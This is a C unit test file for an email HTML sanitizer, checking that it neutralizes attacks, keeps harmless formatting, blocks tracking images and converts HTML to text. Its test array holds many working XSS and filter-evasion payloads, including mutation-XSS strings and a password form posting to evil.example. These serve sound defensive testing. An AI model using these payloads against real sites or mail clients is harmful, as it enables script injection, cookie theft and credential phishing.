/* HTML of mails: known attacks against cleaners, what must survive, and the way to plain text and
 * back. Every result is judged by html_wrong (mail_check.h). */
#include "check.h"
#include "mail_check.h"

#include "base/buf.h"
#include "base/clock.h"
#include "channels/email/mail_html.h"

static const char *our_cid(void *arg, const char *id)
{
    (void)arg;
    return strcmp(id, "logo@x") == 0 ? "/ours/logo\"><script>" : NULL;
}

static struct mail_html clean(struct arena *a, const char *html, bool sheets)
{
    struct mail_html out;
    struct mail_html_options options = {.sheets = sheets, .cid = our_cid};
    assert_true(mail_html_clean(a, html, strlen(html), &options, &out));
    assert_int_equal(out.len, strlen(out.html));
    const char *wrong = html_wrong(out.html, sheets);
    if (wrong) fail_msg("%s: %s\nbecame %s", wrong, html, out.html);
    return out;
}

/* After filter-evasion lists and advisories against other cleaners: nothing of them may go out but
 * text. */
static void attacks_come_to_nothing(void **state)
{
    (void)state;
    static const char *const vectors[] = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script\t>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>alert(1);//<</script>",
        "<img src=x onerror=alert(1)>",
        "<img src=`javascript:alert(1)`>",
        "<img src=\"javascript:alert(1)\">",
        "<img src=JaVaScRiPt:alert(1)>",
        "<img src=\"jav\tascript:alert(1)\">",
        "<img src=\"jav&#x09;ascript:alert(1)\">",
        "<img src=\" &#14; javascript:alert(1)\">",
        "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        "<img src=&#0000106&#0000097&#0000118&#0000097script:alert(1)>",
        "<img \"\"\"><script>alert(1)</script>\">",
        "<img src=x:alert(alt) onerror=eval(src) alt=0>",
        "<img/src/onerror=alert(1)>",
        "<img src onerror\t=\n\"alert(1)\">",
        "<img src='x' onerror='alert(1)'//>",
        "<img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
        "<img src=\"data:image/png,<script>\">",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"  javascript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\"java&Tab;script&colon;alert(1)\">x</a>",
        "<a href=\"&#1;javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<a href='https://x.example\" onmouseover=\"alert(1)'>x</a>",
        "<a href=x onclick=alert(1) style=\"x\">x</a>",
        "<a href=\"https://a.example\" target=\"_self\" rel=\"opener\">x</a>",
        "<a onmouseover=alert(document.cookie)>x</a>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=data:,alert(1) />",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
        "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
        "onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img "
        "onerror=alert(1) src>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<applet code=x></applet>",
        "<base href=\"javascript:alert(1)//\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<link rel=import href=\"https://evil.example/\">",
        "<form action=\"https://evil.example\"><input name=password type=password></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>x</select>",
        "<keygen autofocus onfocus=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<video poster=javascript:alert(1)//></video>",
        "<audio src=x onerror=alert(1)>",
        "<body onload=alert(1)>",
        "<body background=\"javascript:alert(1)\">",
        "<table background=\"javascript:alert(1)\"><td background=\"https://t.example/x.png\">x",
        "<marquee onstart=alert(1)>x</marquee>",
        "<details open ontoggle=alert(1)>x</details>",
        "<isindex type=image src=1 onerror=alert(1)>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"background-image:url(https://t.example/p.png)\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"w\\69 dth:expression(alert(1))\">x</div>",
        "<div style=\"color:red;b/**/ehavior:url(x)\">x</div>",
        "<div style=\"-moz-binding:url(https://evil.example/x.xml#x)\">x</div>",
        "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
        "<div style=\"position:absolute;z-index:9999\">x</div>",
        "<div style=\"margin-top:-500px;margin:-1px -2px\">x</div>",
        "<div style=\"text-indent:-9999px\">x</div>",
        "<div style=\"transform:translate(-100px)\">x</div>",
        "<div style=\"color:var(--x)\">x</div>",
        "<div style=\"font-family:'</style><script>alert(1)</script>'\">x</div>",
        "<div style='font-family:\"x\" onclick=alert(1)'>x</div>",
        "<div style=\"list-style:url(https://t.example)\">x</div>",
        "<div style=\"content:url(https://t.example)\">x</div>",
        "<div style=\"cursor:url(https://t.example),auto\">x</div>",
        "<div style=\"width:calc(100% - -9999px)\">x</div>",
        "<div style=\"background:image-set('https://t.example' 1x)\">x</div>",
        "<div style=\"&#117;rl\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body{background:url(https://t.example)}</style>",
        "<style>p{color:red}</style><style></style><style><!--</style><img src=x "
        "onerror=1>--></style>",
        "<style>a[href^=x]{color:red} *{position:fixed} @media all{p{position:fixed}}</style>",
        "<style>p{color:red}</style/x><script>alert(1)</script>",
        "<style>p{}}*{position:fixed}p{font-family:'x}</style>",
        "<!--><script>alert(1)</script>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<!-- --!><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<!DOCTYPE html [<!ENTITY x \"<script>\">]>&x;",
        "</script><script>alert(1)</script>",
        "</p><p title=\"</p><script>alert(1)</script>\">",
        "<p title='\"><script>alert(1)</script>'>x",
        "<p title=&quot;><script>alert(1)</script>&quot;>x",
        "<b <script>alert(1)</script>>x</b>",
        "<b/onclick=alert(1)>x</b>",
        "<div id=location name=cookie class=admin>x</div>",
        "<img name=getElementById src=cid:logo@x>",
        "<x onclick=alert(1) id=x tabindex=1>x</x>",
        "<a\x01href=\"javascript:alert(1)\">x</a>",
        "<p\x0conclick=alert(1)>x</p>",
        "<plaintext><script>alert(1)</script>",
        "<template><script>alert(1)</script></template>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\xff<script>\xc0\xbc/script\xe2\x80",
        "<a href=\"https://x.example",
        "<a href='https://x.example",
        "<b><i><u>unclosed <",
        "</div></div></table></td>stray",
        "<table><tr><td></div></table></table>x<td>y",
        "<p><table><p></table></p>",
    };
    CLEANUP(arena_freep) struct arena *a = arena_new(64 * MIB);
    for (size_t i = 0; i < ARRAY_LEN(vectors); i++) {
        for (int sheets = 0; sheets < 2; sheets++) {
            struct mail_html out = clean(a, vectors[i], sheets);
            struct mail_html again = clean(a, out.html, sheets); /* and it is settled */
            if (out.remote_images == 0 && !strstr(out.html, "/ours/"))
                assert_int_equal(strlen(again.html), strlen(out.html));
        }
        /* In the middle of other things, and at every cut. */
        const char *inside = arena_printf(a, "<table><tr><td><p>%s</td></table>", vectors[i]);
        (void)clean(a, inside, true);
        for (size_t n = 0; n < strlen(vectors[i]); n++)
            (void)clean(a, arena_strndup(a, vectors[i], n), true);
    }
}

static void gives(const char *html, const char *expected)
{
    CLEANUP(arena_freep) struct arena *a = arena_new(8 * MIB);
    assert_string_equal(clean(a, html, false).html, expected);
}

static void what_is_harmless_stays(void **state)
{
    (void)state;
    gives("<p>Olá <b>Ana</b>, 2 &lt; 3 &amp; &eacute; &#8364; &hellip;</p>",
          "<p>Olá <b>Ana</b>, 2 &lt; 3 &amp; é € …</p>");
    gives("<a href=\"https://x.example/?a=1&amp;b=2\">x</a>",
          "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer "
          "nofollow\">x</a>");
    gives("<a href=www.x.example>x</a><a href=//y.example>y</a>",
          "<a href=\"https://www.x.example\" target=\"_blank\" rel=\"noopener noreferrer "
          "nofollow\">x</a><a href=\"https://y.example\" target=\"_blank\" rel=\"noopener "
          "noreferrer nofollow\">y</a>");
    gives("<a href=\"#top\" name=x>x</a>", "<a>x</a>");
    gives("<td style=\"color: RED !important; position:fixed; padding:4px 8px\">x",
          "<td style=\"color:red;padding:4px 8px;\">x</td>");
    gives("<div style=\"font-family:&quot;Segoe UI&quot;,Arial;font-size:11pt\">x</div>",
          "<div style=\"font-family:'Segoe UI',arial;font-size:11pt;\">x</div>");
    gives("<div style=\"background:#222 url(x.png) no-repeat;color:#fff\">x</div>",
          "<div style=\"background:#222  no-repeat;color:#fff;\">x</div>");
    gives("<body bgcolor=\"#EEEEEE\" style=\"margin:0\"><p>x</body>",
          "<div style=\"background-color:#EEEEEE;margin:0;\"><p>x</p></div>");
    gives("<body><p>x</body>", "<p>x</p>");
    gives("<ul><li>um<li>dois<ul><li>tres</ul><li>quatro</ul>",
          "<ul><li>um</li><li>dois<ul><li>tres</li></ul></li><li>quatro</li></ul>");
    gives("<table border=1 width=\"100%\"><tr><td>a<td>b<tr><td colspan=2>c</table>d",
          "<table border=\"1\" width=\"100%\"><tr><td>a</td><td>b</td></tr><tr><td "
          "colspan=\"2\">c</td></tr></table>d");
    gives("<table><tr><td><table><tr><td>in</table></td><td>x</td></table>",
          "<table><tr><td><table><tr><td>in</td></tr></table></td><td>x</td></tr></table>");
    gives("<b><i>x</b>y</i>z", "<b><i>x</i></b>yz");
    gives("<p>a<p>b<div>c</div>", "<p>a</p><p>b</p><div>c</div>");
    gives("<o:p>Outlook</o:p><custom-tag>x</custom-tag>", "Outlookx");
    gives("a<br/>b</br>c<hr size=1>", "a<br>b<br>c<hr size=\"1\">");
    gives("<font color=\"#ff0000\" face=\"Arial, Helvetica\" size=\"+1\">x</font>",
          "<font color=\"#ff0000\" face=\"Arial, Helvetica\" size=\"+1\">x</font>");
    gives("<h1 align=center dir=ltr title='a \"b\"'>x</h1>",
          "<h1 align=\"center\" dir=\"ltr\" title=\"a &quot;b&quot;\">x</h1>");
}

static void pictures_wait_until_asked(void **state)
{
    (void)state;
    CLEANUP(arena_freep) struct arena *a = arena_new(8 * MIB);
    struct mail_html out =
        clean(a,
              "<img src=\"https://x.example/a.png\" alt=foto width=300>"
              "<img src=\"https://t.example/p.gif\" width=1 height=1>"
              "<img src=\"https://t.example/p.gif\" style=\"display:none\">"
              "<img src=\"https://t.example/p.gif\" style=\"max-height:0px\">"
              "<img src=\"cid:logo@x\"><img src=\"cid:else\"><img src=\"file:///etc/passwd\">"
              "<img src=\"data:image/png;base64,AAAA\"><img src=\"relative.png\">",
              false);
    assert_string_equal(
        out.html, "<img data-remote-src=\"https://x.example/a.png\" alt=\"foto\" width=\"300\" "
                  "referrerpolicy=\"no-referrer\">"
                  "<img src=\"/ours/logo&quot;&gt;&lt;script&gt;\" referrerpolicy=\"no-referrer\">"
                  "<img data-cid=\"else\" referrerpolicy=\"no-referrer\">"
                  "<img src=\"data:image/png;base64,AAAA\" referrerpolicy=\"no-referrer\">");
    assert_int_equal(out.remote_images, 1);
    assert_int_equal(out.trackers, 3);
    struct mail_html_options asked = {.remote_images = true};
    const char *html = "<img src=\"//x.example/a.png\">";
    assert_true(mail_html_clean(a, html, strlen(html), &asked, &out));
    assert_string_equal(out.html,
                        "<img src=\"https://x.example/a.png\" referrerpolicy=\"no-referrer\">");
    assert_null(html_wrong(out.html, false));
}

static void style_sheets_are_filtered_or_dropped(void **state)
{
    (void)state;
    CLEANUP(arena_freep) struct arena *a = arena_new(8 * MIB);
    static const char html[] =
        "<style><!-- p.MsoNormal, li.MsoNormal {margin:0cm; mso-pagination:none; "
        "position:fixed} @media print { p { color:red } } a:hover{color:red} "
        ".x > td { color : #333 } @font-face {font-family:x; src:url(y)} --></style>"
        "<p class=\"MsoNormal\">x</p>";
    assert_string_equal(clean(a, html, false).html, "<p>x</p>");
    assert_string_equal(clean(a, html, true).html,
                        "<style>p.MsoNormal, li.MsoNormal{margin:0cm;}\n.x > "
                        "td{color:#333;}\n</style><p class=\"MsoNormal\">x</p>");
}

static void the_output_is_bounded_and_whole(void **state)
{
    (void)state;
    CLEANUP(buf_free) struct buf b = BUF_INIT(16 * MIB);
    CLEANUP(arena_freep) struct arena *a = arena_new(128 * MIB);
    for (int i = 0; i < 20000; i++)
        buf_adds(&b, "<div><b a=1>x&amp;");
    struct mail_html out;
    struct mail_html_options options = {.output_max = 10000};
    assert_true(mail_html_clean(a, b.data, b.len, &options, &out));
    assert_true(out.cut);
    assert_in_range(out.len, 10000, 14000);
    assert_null(html_wrong(out.html, false));
    int64_t begin = clock_mono_ms();
    out = clean(a, buf_str(&b), false); /* nested 40,000 deep */
    assert_false(out.cut);
    buf_clear(&b);
    for (int i = 0; i < 100000; i++)
        buf_addf(&b, "<b a=%d></i>", i);
    for (int i = 0; i < 100000; i++)
        buf_adds(&b, "<p><td></div>");
    (void)clean(a, buf_str(&b), false);
    buf_clear(&b);
    for (int i = 0; i < 400000; i++)
        buf_adds(&b, "<style>p{");
    (void)clean(a, buf_str(&b), true);
    assert_in_range(clock_mono_ms() - begin, 0, 8000);
    CLEANUP(arena_freep) struct arena *small = arena_new(1000);
    assert_false(mail_html_clean(small, b.data, b.len, &options, &out));
    assert_string_equal(out.html, "");
}

static void reads(const char *html, bool links, const char *expected)
{
    CLEANUP(arena_freep) struct arena *a = arena_new(8 * MIB);
    struct mail_html_text_options options = {.links = links};
    assert_string_equal(mail_html_text(a, html, &options), expected);
}

static void text_reads_well(void **state)
{
    (void)state;
    reads("<p>Olá  <b>Ana</b>,\n tudo</p><p>bem?</p>", false, "Olá Ana, tudo\n\nbem?");
    reads("a<br>b<br><br>c", false, "a\nb\n\nc");
    reads("<div>a</div><div>b</div><div><br></div><div>c</div>", false, "a\nb\n\nc");
    reads("<ul><li>um</li><li><p>dois</p></li></ul><ol><li>a<li>b</ol>", false,
          "- um\n- dois\n\n1. a\n2. b");
    reads("<ul><li>um<ul><li>dentro</ul><li>dois</ul>", false, "- um\n  - dentro\n- dois");
    reads("<table><tr><td>Item</td><td>R$ 10,00</td></tr><tr><td>Frete</td><td>5</td></tr></table>",
          false, "Item | R$ 10,00\nFrete | 5");
    reads("veja <a href=\"https://x.example/p\">aqui</a> ok", true,
          "veja aqui (https://x.example/p) ok");
    reads("veja <a href=\"https://x.example/\">x.example</a>", true, "veja x.example");
    reads("veja <a href=\"https://x.example/p\">aqui</a>", false, "veja aqui");
    reads("<p>a</p><blockquote>b<br>c<blockquote>d</blockquote></blockquote>e", false,
          "a\n\n> b\n> c\n>\n> > d\n\ne");
    reads("<pre>um\n  dois</pre>", false, "um\n  dois");
    reads("<style>p{}</style><title>t</title><script>x</script><!-- c -->y", false, "y");
    reads("<div style=\"display:none\">preheader<div>x</div></div>visto", false, "visto");
    reads("<div style=\"display:none\">nunca fecha", false, "nunca fecha");
    reads("a&nbsp;&nbsp;b&#8203;c &lt;x&gt; &copy2026", false, "a bc <x> ©2026");
    reads("<img alt=\"Logo\" src=x> oi <img src=y>", false, "Logo oi");
    reads("<h1>T</h1>a<hr>b", false, "T\n\na\n---\nb");
    reads("", false, "");
}

static void text_becomes_html(void **state)
{
    (void)state;
    CLEANUP(arena_freep) struct arena *a = arena_new(32 * MIB);
    assert_string_equal(mail_html_from_text(a, "a <b> & \"c\"\nd"),
                        "<div>a &lt;b&gt; &amp; &quot;c&quot;<br>\nd</div>");
    assert_string_equal(
        mail_html_from_text(a, "veja https://x.example/a?b=1&c=2. ok (http://y.example)"),
        "<div>veja <a "
        "href=\"https://x.example/a?b=1&amp;c=2\">https://x.example/a?b=1&amp;c=2</a>. "
        "ok (<a href=\"http://y.example\">http://y.example</a>)</div>");
    assert_string_equal(mail_html_from_text(a, "oi\n> um\n> > dois\nfim"),
                        "<div>oi<blockquote type=\"cite\">um<blockquote "
                        "type=\"cite\">dois</blockquote></blockquote>fim</div>");
    assert_string_equal(mail_html_from_text(a, "javascript:alert(1) http://"),
                        "<div>javascript:alert(1) http://</div>");
    CLEANUP(buf_free) struct buf b = BUF_INIT(4 * MIB);
    for (int i = 0; i < 20000; i++)
        buf_adds(&b, ">>>>>>>>>>>>>>>>>>>>\n\n");
    assert_non_null(mail_html_from_text(a, buf_str(&b)));
    /* What people write comes back from it. */
    static const char text[] = "Olá <Ana>,\n\n  com recuo & aspas \"x\"\nhttps://x.example/a";
    const char *back =
        mail_html_text(a, mail_html_from_text(a, text), &(struct mail_html_text_options){0});
    assert_string_equal(back, "Olá <Ana>,\n\ncom recuo & aspas \"x\"\nhttps://x.example/a");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(attacks_come_to_nothing),
        cmocka_unit_test(what_is_harmless_stays),
        cmocka_unit_test(pictures_wait_until_asked),
        cmocka_unit_test(style_sheets_are_filtered_or_dropped),
        cmocka_unit_test(the_output_is_bounded_and_whole),
        cmocka_unit_test(text_reads_well),
        cmocka_unit_test(text_becomes_html),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
